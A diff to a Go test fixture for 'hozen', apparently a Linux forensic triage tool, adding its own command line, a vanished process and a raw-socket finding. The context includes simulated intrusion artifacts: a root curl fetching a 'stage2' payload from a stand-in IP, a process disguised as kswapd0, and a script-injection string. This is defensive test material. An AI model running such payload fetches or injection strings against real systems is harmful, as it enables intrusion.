@@ -49,6 +49,11 @@ func bss(ss ...string) []manifest.BString {
 // is not UTF-8.
 var trickyArgv = bss("/tmp/.x/kworker", "-c", `a,b "quoted" 'single'`, "line1\nline2", "<script>alert(1)</script>", "bad\xffbyte")
 
+// hozenArgv is longer than the page shows on one line.
+var hozenArgv = bss("/media/usb/hozen", "collect", "--profile", "triage", "--case", "CASE-7", "--examiner", "Ana Investigator",
+	"--out", "/media/usb/evidence", "--reference-time", "2026-03-14T08:58:25Z", "--sign-key", "/media/usb/keys/responder_ed25519",
+	"--ledger", "/media/usb/custody.db")
+
 func fixtureProcesses() artifact.ProcessTable {
 	bt := bootTime
 	ps := []artifact.Process{
@@ -68,6 +73,11 @@ func fixtureProcesses() artifact.ProcessTable {
 			TIDs:       []int{1300, 1302},
 			Namespaces: map[string]uint64{"net": 4026531840, "pid": 4026531836}},
 		{PID: 1301, PPID: 1300, Name: "curl", UID: u32(0), User: "root", StartTime: at(-89 * time.Minute), Argv: bss("curl", "-s", "http://198.51.100.66/stage2?a=1&b=<2>"), Exe: "/usr/bin/curl", Outcome: "ok"},
+		// hozen itself, run by alice's root shell: its long command line
+		// is folded in the page.
+		{PID: 7000, PPID: 1240, Name: "hozen", UID: u32(0), User: "root", StartTime: at(-time.Second), Argv: hozenArgv, Exe: "/media/usb/hozen", Outcome: "ok"},
+		// A process that exited between the listing and the reading.
+		{PID: 7001, PPID: 1, Outcome: "vanished", Errors: []string{"stat: no such process"}},
 		{PID: 6666, PPID: 1, Name: "x\xfe", UID: u32(0), User: "root", StartTime: at(-30 * time.Minute), Argv: bss("[kswapd0]"), Hidden: true, Outcome: "partial", Errors: []string{"exe: permission denied"}},
 	}
 	return artifact.ProcessTable{CollectedAt: t0, Source: "/proc", BootTime: &bt, ClockTicks: 100, Count: len(ps), Processes: ps}
@@ -199,7 +209,8 @@ func fixtureHeader() *manifest.Header {
 		Clock:      manifest.Clock{Local: "2026-03-14T10:00:00+01:00", TimeZone: "CET", UTCOffsetSeconds: 3600, BootTime: &bt, ReferenceTime: &ref, SkewSeconds: f64(95)},
 		Tool:       manifest.Tool{Name: "hozen", Version: "v0.1.0", GoVersion: "go1.26.0", SHA256: "abababababababababababababababababababababababababababababababab"},
 		Profile:    manifest.Profile{Name: "triage", SHA256: "cdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcdcd"},
-		Privileges: &manifest.Privileges{UID: 0, EUID: 0, Root: true, Capabilities: "000001ffffffffff"}}
+		Privileges: &manifest.Privileges{UID: 0, EUID: 0, Root: true, Capabilities: "000001ffffffffff"},
+		Footprint:  &manifest.Footprint{PID: 7000, Args: hozenArgv[1:], Output: "/media/usb/evidence/CASE-7_web-01_20260314T090000Z_019ce9f0.tar.zst", Ledger: "/media/usb/custody.db"}}
 }
 
 // writeFixture writes the fixture bundle into dir with arts and returns
@@ -311,8 +322,11 @@ func fixturePersistence() *artifact.Persistence {
 // fixtureFindings are in no particular order: the report ranks them.
 func fixtureFindings() *artifact.Findings {
 	mt := t0.Add(-84 * time.Minute)
-	return &artifact.Findings{CollectedAt: t0, Rules: []string{"hidden-pid", "ld-so-preload", "persistence-recent", "unit-exec-tmp"},
+	return &artifact.Findings{CollectedAt: t0, Rules: []string{"hidden-pid", "ld-so-preload", "persistence-recent", "raw-socket", "unit-exec-tmp"},
 		Findings: []artifact.Finding{
+			// Names its process only by an evidence selector, not by PID.
+			{Rule: "raw-socket", Severity: artifact.SeverityMedium, Score: 50, Title: "packet socket held by curl (pid 1301)",
+				Reason: "a raw or packet socket sees traffic past the firewall", Evidence: []string{"volatile/kernel/raw_sockets.json#inode=7100", artifact.PathProcesses + "#pid=1301"}},
 			{Rule: "persistence-recent", Severity: artifact.SeverityMedium, Score: 50, Title: "systemd entry changed 1.4h before collection: /etc/systemd/system/kworker.service",
 				Reason: "changed within the last 7 days", Path: "/etc/systemd/system/kworker.service", Time: &mt,
 				Evidence: []string{artifact.PathPersistence + "#path=/etc/systemd/system/kworker.service", "files/etc/systemd/system/kworker.service"}},
